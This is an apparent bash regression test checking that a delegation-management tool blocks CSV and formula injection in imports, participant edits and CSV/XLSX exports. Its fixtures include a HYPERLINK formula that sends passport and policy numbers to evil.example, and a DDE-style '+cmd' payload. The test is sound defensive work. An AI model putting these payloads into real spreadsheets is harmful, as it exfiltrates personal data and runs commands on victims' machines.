#!/usr/bin/env bash
# Review finding 9: CSV injection. A passport or policy number that begins
# like a formula is refused (import, add, edit); free text that begins like
# one reaches the CSV after an apostrophe, so that LibreOffice, opening the
# CSV as a coordinator's double-click would, holds no formula in any cell;
# in the workbook every such value is a string cell, never a formula.
. "$(dirname "$0")/lib.sh"
FIXTURE="$VIGIE_BUILD_DIR/tests/vigie_fixture"
LO="$VIGIE_SOURCE_DIR/tests/tools/lo_pdf.sh"
PY=/usr/bin/python3
new_store
"$FIXTURE" delegation colombie-2025 || { echo "fixture failed" >&2; exit 1; }

# the review's own file
printf 'Full name,Passport number,Policy number\nEve Attacker,"=HYPERLINK(""http://evil.example/?""&B3&C3,""Cliquez"")",@SUM(1)\n' >"$T/evil.csv"
expect 1 participant import colombie-2025 "$T/evil.csv"
has "HYPERLINK" err
expect 1 participant show colombie-2025 "Eve Attacker"
expect 1 participant add colombie-2025 --name "Eve Attacker" --passport-number "=1+1"
expect 1 participant add colombie-2025 --name "Eve Attacker" --policy-number "-2+3"
expect 1 participant add colombie-2025 --name "Eve Attacker" --passport-number " @SUM(1)"
expect 1 --lang fr participant edit colombie-2025 "Marie-Ève" --policy-number "+cmd|' /C calc'!A0"
has "n'est pas un numéro de document" err
# real numbers still pass
expect 0 participant add colombie-2025 --name "Dana Valid" --passport-number "AB 123-456" \
  --policy-number "POL/2025.17"

# free text that looks like a formula is kept as typed, and defused on the way out
expect 0 participant add colombie-2025 --name "Mallory Formula" \
  --notes '=HYPERLINK("http://evil.example/","Cliquez")' --allergies '+SUM(1)' \
  --medication '-1+1' --itinerary '@cmd' --local-address ' =1+1'
expect 0 --lang en export delegation colombie-2025 --profile coordinator --format csv \
  --output "$T/csv"
CSV=$(ls "$T"/csv/[0-9][0-9]-participants.csv | head -1)
check "the participants' CSV is there" test -f "$CSV"
OUT=$(cat "$CSV")
has "'=HYPERLINK("
has "'+SUM(1)"
has "'-1+1"
has "'@cmd"

# LibreOffice opens the CSV as a double-click would (comma, UTF-8, formulas
# evaluated) and writes back what it read: no cell is a formula.
if LO_TO=xlsx LO_INFILTER='CSV:44,34,76,1' bash "$LO" "$T/lo" "$CSV"; then
  ok
  read_back="$T/lo/$(basename "${CSV%.csv}").xlsx"
  OUT=$($PY - "$read_back" <<'EOF'
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
for row in ws.iter_rows():
    for c in row:
        if c.data_type == 'f':
            print("FORMULA", c.coordinate, c.value)
        elif isinstance(c.value, str) and 'HYPERLINK' in c.value:
            print("TEXT", c.value)
EOF
)
  hasnt "FORMULA"
  has "TEXT '=HYPERLINK"
else
  ko "LibreOffice did not open the CSV"
fi

# the workbook: strings, never formulas
expect 0 export delegation colombie-2025 --profile coordinator --output "$T/c.xlsx"
OUT=$($PY - "$T/c.xlsx" <<'EOF'
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            v = c.value
            if isinstance(v, str) and v.lstrip()[:1] in ('=', '+', '-', '@') and c.data_type == 'f' \
               and ('HYPERLINK' in v or 'SUM(1)' in v or v in ('-1+1', '@cmd', '=1+1')):
                print("FORMULA", ws.title, c.coordinate, v)
            if v == '=HYPERLINK("http://evil.example/","Cliquez")' and c.data_type == 's':
                print("STRING")
EOF
)
hasnt "FORMULA"
has "STRING"
finish
